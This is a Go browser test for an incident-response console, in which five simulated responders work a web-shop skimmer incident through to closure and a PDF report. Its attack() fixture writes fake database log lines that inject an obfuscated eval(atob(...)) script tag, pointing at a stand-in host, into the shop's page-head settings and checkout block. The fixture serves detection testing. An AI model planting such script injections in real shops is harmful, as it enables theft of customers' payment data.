package web

import (
	"archive/zip"
	"bytes"
	"context"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	cdbrowser "github.com/chromedp/cdproto/browser"
	"github.com/chromedp/chromedp"

	"tocsin/internal/counterpart"
	"tocsin/internal/desk"
	"tocsin/internal/incident"
	"tocsin/internal/plan"
)

// skimmerWords are what the team types while it works a skimmer through, by the label of the field; the five who type share it.
func skimmerWords() map[string]string {
	return map[string]string{
		"Password":                                        password,
		"Whom does it affect?":                            "customers",
		"Is the alarm real?":                              "real",
		"Could the code read card data?":                  "yes",
		"Where does the foreign code live?":               "database",
		"Is there a clean backup from before it came in?": "yes",
		"What you found":                                  "Done as it is written; nothing else was seen.",
		"Without it because":                              "The server keeps its own copy.",
		"Kind of cause":                                   "credentials",
		"In sum":                                          "The agency's account for the shop was taken over, and wrote a script into the settings of the page head.",
		"Why 1":                                           "A script in core_config_data read the payment form.",
		"Why 2":                                           "Somebody signed in to the administration as the agency.",
		"Why 3":                                           "The account had no second factor.",
		"What went well":                                  "The checkout was closed nine minutes after the alarm.",
		"What went badly":                                 "Nobody knew at once who calls the acquirer.",
		"What follows from it":                            "Each account of the administration gets a second factor.",
		"What is known, in three sentences at most": "A script in the settings of the page head reads what customers type at the payment. Who paid since it came in is touched. The checkout is closed, and the script is being taken out.",
		"The alarm was": "true",
		"Reason":        "It was a skimmer in the settings of the page head. It is gone, and the account is closed.",
	}
}

// answersAbout are the questions of a run's playbook about the whole incident, with their answers.
func answersAbout(c *console, run int64, words map[string]string) {
	c.desk.Read(func(st *desk.State) {
		for fact, value := range map[string]string{incident.Affected: "customers", incident.Verdict: "real"} {
			if a, ok := st.Runs.All[run-1].Book().Fact(fact); ok {
				words[a.Ask] = value
			}
		}
	})
}

// marked is what a page marks as the next step, with what its form asks.
const marked = `(() => {
	const marks = [...document.querySelectorAll('[data-next]')].filter((e) => e.checkVisibility());
	const words = (e) => (e?.innerText ?? '').replace(/\s+/g, ' ').trim();
	const out = {Says: marks.map(words), Here: location.pathname, Fields: []};
	if (marks.length !== 1 || document.readyState !== 'complete') return out;
	out.Ready = true;
	if (marks[0].tagName === 'A' && marks[0].getAttribute('href').startsWith('#')) out.Place = true;
	const named = new Set();
	for (const e of marks[0].form?.elements ?? []) {
		const kind = e.type ?? '';
		if (!e.name || kind === 'hidden' || named.has(e.name) || !e.checkVisibility()) continue;
		named.add(e.name);
		const group = kind === 'radio' || kind === 'checkbox';
		const label = words(group ? e.closest('fieldset').querySelector('legend') : e.labels[0]).replace(/ \(.*\)$/, '');
		const all = [...marks[0].form.elements].filter((x) => x.name === e.name);
		out.Fields.push({Name: e.name, Kind: group ? kind : e.tagName.toLowerCase(), Label: label, Must: all.some((x) => x.required),
			Filled: group ? all.some((x) => x.checked) : e.value !== '' && e.tagName !== 'SELECT'});
	}
	return out;
})()`

type markOf struct {
	Says   []string
	Here   string
	Ready  bool
	Place  bool // it leads to a place on the same page
	Fields []struct {
		Name, Kind, Label string
		Must, Filled      bool
	}
}

// A walker is a person with a browser, who clicks only what the page marks as the next step, and types only what the table has.
type walker struct {
	t          *testing.T
	name       string
	tab        context.Context
	words      map[string]string
	phone      bool
	theme      string
	complaints *counterpart.Complaints
	clicks     int
}

func newWalker(t *testing.T, name, theme string, phone bool, words map[string]string) *walker {
	t.Helper()
	w := &walker{t: t, name: name, tab: browser(t), words: map[string]string{"Staff id": name}, phone: phone, theme: theme}
	for k, v := range words {
		w.words[k] = v
	}
	w.complaints = overhear(t, w.tab)
	w.size()
	in(t, w.tab, counterpart.Theme(theme))
	return w
}

// size makes the tab theirs.
func (w *walker) size() {
	w.t.Helper()
	if w.phone {
		in(w.t, w.tab, narrow())
		return
	}
	in(w.t, w.tab, wide())
}

// look waits for a mark, at most so long.
func (w *walker) look(long time.Duration) (m markOf) {
	w.t.Helper()
	for end := time.Now().Add(long); ; time.Sleep(30 * time.Millisecond) {
		m = ask(w.t, w.tab, chromedp.Evaluate[markOf](marked))
		if len(m.Says) > 1 {
			w.t.Fatalf("%s: %s marks %d next steps: %s", w.name, m.Here, len(m.Says), strings.Join(m.Says, " | "))
		}
		if m.Ready || time.Now().After(end) {
			return m
		}
	}
}

// next does what the page marks, and says what that was; "" is nothing.
func (w *walker) next(long time.Duration) string {
	w.t.Helper()
	m := w.look(long)
	if !m.Ready {
		return ""
	}
	if m.Place {
		w.t.Fatalf("%s: %s marks %q, which leads only to a place on the page: nobody says what is typed there", w.name, m.Here, m.Says[0])
	}
	for _, f := range m.Fields {
		if f.Filled {
			continue
		}
		text, known := w.words[f.Label]
		switch {
		case !known && f.Must:
			w.t.Fatalf("%s: %s asks %q, and the table has no answer", w.name, m.Here, f.Label)
		case !known:
		case f.Kind == "radio" || f.Kind == "checkbox":
			in(w.t, w.tab, click(fmt.Sprintf("form:has([data-next]) input[name=%q][value=%q]", f.Name, text)))
		case f.Kind == "select":
			in(w.t, w.tab, chromedp.SetValue(chromedp.CSS(fmt.Sprintf("form:has([data-next]) [name=%q]", f.Name)), text))
		default:
			in(w.t, w.tab, fill(fmt.Sprintf("form:has([data-next]) [name=%q]", f.Name), text))
		}
	}
	in(w.t, w.tab, js(`window.walked = true`), click("[data-next]"))
	for end := time.Now().Add(20 * time.Second); ; time.Sleep(20 * time.Millisecond) {
		is, err := chromedp.Run(w.tab, chromedp.Evaluate[bool](`window.walked === undefined && document.readyState === 'complete'`))
		if is && err == nil {
			break
		}
		if time.Now().After(end) {
			w.t.Fatalf("%s: %s, %q: nothing happens within 20 s", w.name, m.Here, m.Says[0])
		}
	}
	w.clicks++
	if refused := ask(w.t, w.tab, chromedp.Evaluate[string](`document.querySelector('.wrong, .wrongs')?.innerText ?? ''`)); refused != "" {
		w.t.Fatalf("%s: %s, %q is refused: %s", w.name, m.Here, m.Says[0], refused)
	}
	return m.Says[0]
}

// shot keeps what they see, at a desk in the light and on a telephone in the dark.
func (w *walker) shot(name string) {
	w.t.Helper()
	if os.Getenv("TOCSIN_SHOTS") == "" {
		return
	}
	in(w.t, w.tab, wide(), theme("light"))
	shoot(w.t, w.tab, "walk-"+name+"-desk", chromedp.FullScreenshot(100))
	in(w.t, w.tab, narrow(), theme("dark"))
	shoot(w.t, w.tab, "walk-"+name+"-phone", chromedp.FullScreenshot(100))
	w.size()
	in(w.t, w.tab, counterpart.Theme(w.theme))
}

// Given a shop whose database log shows a skimmer written into its settings, when the five people of the team, each in a browser, click only what their pages mark as
// the next step, and type only what a table has for the labels of the fields, then they come from the alarm to the closed incident and its report as PDF.
//
// It takes minutes: TOCSIN_SOAK=1 go test -run TestBrowserFiveCloseASkimmer -v ./internal/web; TOCSIN_SHOTS=folder keeps pictures and the report.
func TestBrowserFiveCloseASkimmer(t *testing.T) {
	if os.Getenv("TOCSIN_SOAK") == "" {
		t.Skip("five browsers take minutes: set TOCSIN_SOAK=1; TestFollowingTheMarksClosesAnIncident walks the same way without browsers")
	}
	begun := time.Now()
	set, err := shopRules()
	if err != nil {
		t.Fatal(err)
	}
	log := filepath.Join(t.TempDir(), "mysql-general.log")
	if err := os.WriteFile(log, nil, 0o600); err != nil {
		t.Fatal(err)
	}
	c := newConsoleOf(t, set, nil, nil, planned, func(o *desk.Options) { o.Sample, o.Watch, o.Poll = nil, []string{log}, 50*time.Millisecond })
	c.employ(t)
	c.run(t)
	attack(t, log)
	c.until(t, "a playbook is begun and somebody is rung", func(st *desk.State) bool {
		return len(st.Runs.Of(1)) > 0 && len(st.Calls.Ringing()) > 0 && len(st.Calls.Calls[0].Tries) > 0
	})
	c.desk.Read(func(st *desk.State) {
		if book := st.Runs.Of(1)[0].Playbook; book != "skimmer" {
			t.Fatalf("the playbook %s is begun", book)
		}
	})
	words := skimmerWords()
	answersAbout(c, 1, words)
	var team []*walker
	for _, p := range crew() {
		team = append(team, newWalker(t, p.id, p.theme, p.phone, words))
	}
	anna := team[0]
	mail := <-c.mails
	for !strings.HasPrefix(mail.To, "anna@") && !strings.Contains(mail.To, "<anna@") || !strings.Contains(mail.Body, "/answer/") {
		mail = <-c.mails
	}
	in(t, anna.tab, chromedp.Navigate(c.URL+link(t, mail.Body)))
	for _, w := range team[1:] {
		in(t, w.tab, chromedp.Navigate(c.URL+"/"))
	}
	anna.shot("00-the-call")
	pictures, seen := 0, map[string]bool{}
	var done []string
	closed := func() (is bool) {
		c.desk.Read(func(st *desk.State) { is = st.Incidents.Incidents[0].Closed })
		return is
	}
	picture := func(w *walker) {
		phase := ""
		c.desk.Read(func(st *desk.State) { phase = st.Runs.Of(1)[0].Phase() })
		here := strings.Split(ask(t, w.tab, chromedp.Evaluate[string](`location.pathname`)), "/")
		kind := "start"
		switch {
		case len(here) > 3:
			kind = here[3]
		case len(here) > 2:
			kind = here[1]
		case here[len(here)-1] != "":
			kind = here[len(here)-1]
		}
		if key := phase + " " + kind + " " + w.name; !seen[key] {
			seen[key] = true
			pictures++
			w.shot(fmt.Sprintf("%02d-%s-%s-%s", pictures, phase, w.name, kind))
		}
	}
	for last := time.Now(); !closed(); {
		before := len(done)
		for _, w := range team {
			for !closed() {
				says := w.next(100 * time.Millisecond)
				if says == "" {
					break
				}
				done = append(done, w.name+": "+says)
				picture(w)
			}
		}
		if len(done) > before {
			last = time.Now()
		}
		if time.Since(last) > 20*time.Second {
			for _, w := range team {
				t.Log(w.name, "sees", ask(t, w.tab, chromedp.Evaluate[string](`location.pathname + ' ' + document.querySelector('main').innerText.slice(0, 600)`)))
			}
			t.Fatalf("nobody's page marks a next step; the last ones: %s", strings.Join(done[max(0, len(done)-10):], " | "))
		}
	}
	t.Logf("closed by %d clicks after %.0f s", len(done), time.Since(begun).Seconds())
	for _, w := range team[1:] {
		if m := w.look(0); m.Ready && m.Says[0] != "Back to the incident" {
			t.Errorf("it is closed, and %s is told to do %q", w.name, m.Says[0])
		}
		w.shot("closed-" + w.name)
		w.complaints.Report(t, w.name)
	}
	anna.shot("closed-anna")
	anna.report(t)
	anna.complaints.Report(t, "anna")
	c.desk.Read(func(st *desk.State) {
		i := st.Incidents.Incidents[0]
		if lacking := i.Lacking("true"); len(lacking) > 0 || len(i.Excused()) > 0 {
			t.Errorf("closed, and it lacks %v", lacking)
		}
		if i.Phase != "lessons" || i.Scope() != "customers" {
			t.Errorf("closed in the phase %s, and it touches %q", i.Phase, i.Scope())
		}
	})
}

// crew are the five, each with what they work at.
func crew() []struct {
	id, name, role, theme string
	phone                 bool
} {
	return []struct {
		id, name, role, theme string
		phone                 bool
	}{
		{"anna", "Anna Keller", plan.Commander, "light", false},
		{"boris", "Boris Engel", plan.Engineer, "dark", false},
		{"chen", "Chen Wei", plan.Analyst, "light", true},
		{"dalia", "Dalia Haddad", plan.Legal, "dark", true},
		{"emil", "Emil Olsen", plan.Communications, "light", false},
	}
}

// employ sets the five up, each with a password.
func (c *console) employ(t *testing.T) {
	t.Helper()
	for _, p := range crew() {
		contact := desk.Contact{Name: p.name, Mail: p.id + "@shop.example", Zone: "Europe/Berlin"}
		if p.id == "anna" {
			if err := c.desk.Setup(t.Context(), p.id, password, contact); err != nil {
				t.Fatal(err)
			}
			continue
		}
		if err := c.desk.PutPerson(desk.Local("config"), p.id, []string{p.role}, contact, false); err != nil {
			t.Fatal(err)
		}
		if err := c.desk.SetPassword(t.Context(), desk.Local("config"), p.id, password); err != nil {
			t.Fatal(err)
		}
	}
}

// attack writes what a shop's database logs while a skimmer is put into its settings.
func attack(t *testing.T, log string) {
	t.Helper()
	f, err := os.OpenFile(log, os.O_APPEND|os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	at := func() string { return time.Now().UTC().Format("2006-01-02T15:04:05.000000Z") }
	for _, statement := range []string{
		"SELECT value FROM core_config_data WHERE path = 'design/head/includes'",
		`UPDATE core_config_data SET value = '<script>eval(atob(\'aHR0cHM6Ly9jZG4uY2hlY2tvdXQtc3RhdHMuZXhhbXBsZS9wLmpz\'))</script>' WHERE path = 'design/head/includes'`,
		`UPDATE cms_block SET content = '<script>eval(atob(\'aHR0cHM6Ly9jZG4uY2hlY2tvdXQtc3RhdHMuZXhhbXBsZS9wLmpz\'))</script>' WHERE identifier = 'checkout_footer'`,
		"SELECT 1",
	} {
		if _, err := fmt.Fprintf(f, "%s\t   42 Query\t%s\n", at(), statement); err != nil {
			t.Fatal(err)
		}
	}
	if err := f.Close(); err != nil {
		t.Fatal(err)
	}
}

// report follows the marks of the closed incident to its report, and draws its pages where pictures are kept.
func (w *walker) report(t *testing.T) {
	t.Helper()
	dir := t.TempDir()
	in(t, w.tab, send(cdbrowser.SetDownloadBehavior, cdbrowser.SetDownloadBehaviorParams{Behavior: cdbrowser.SetDownloadBehaviorBehaviorAllow, DownloadPath: dir}))
	if says := w.next(5 * time.Second); says != "Write the report" {
		t.Fatalf("the closed incident marks %q", says)
	}
	w.shot("report")
	if m := w.look(5 * time.Second); !m.Ready || m.Here != "/incidents/1/report" {
		t.Fatalf("the page of the report marks nothing: %+v", m)
	}
	in(t, w.tab, click("[data-next]"))
	var names []string
	for end := time.Now().Add(20 * time.Second); len(names) == 0 && time.Now().Before(end); time.Sleep(50 * time.Millisecond) {
		names, _ = filepath.Glob(filepath.Join(dir, "*.zip"))
	}
	if len(names) != 1 {
		t.Fatalf("the report does not come: %v", names)
	}
	pack, err := os.ReadFile(names[0])
	if err != nil {
		t.Fatal(err)
	}
	z, err := zip.NewReader(bytes.NewReader(pack), int64(len(pack)))
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range z.File {
		if filepath.Ext(f.Name) != ".pdf" {
			continue
		}
		pdf := filepath.Join(dir, "report.pdf")
		r, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		var b bytes.Buffer
		if _, err := b.ReadFrom(r); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(pdf, b.Bytes(), 0o600); err != nil {
			t.Fatal(err)
		}
		says, err := exec.Command("pdftotext", "-layout", pdf, "-").Output()
		if err != nil {
			t.Fatal(err)
		}
		for _, want := range []string{"Hidden script written into the shop", "The agency's account for the shop was taken over", "Each account of the administration gets a second factor", "reads what customers type at the payment", "Boris Engel"} {
			if !strings.Contains(strings.Join(strings.Fields(string(says)), " "), want) {
				t.Errorf("the report does not say %q", want)
			}
		}
		if to := os.Getenv("TOCSIN_SHOTS"); to != "" {
			if out, err := exec.Command("pdftoppm", "-r", "60", "-png", pdf, filepath.Join(to, "walk-report-page")).CombinedOutput(); err != nil {
				t.Fatalf("%v\n%s", err, out)
			}
		}
		return
	}
	t.Error("the report is no PDF")
}
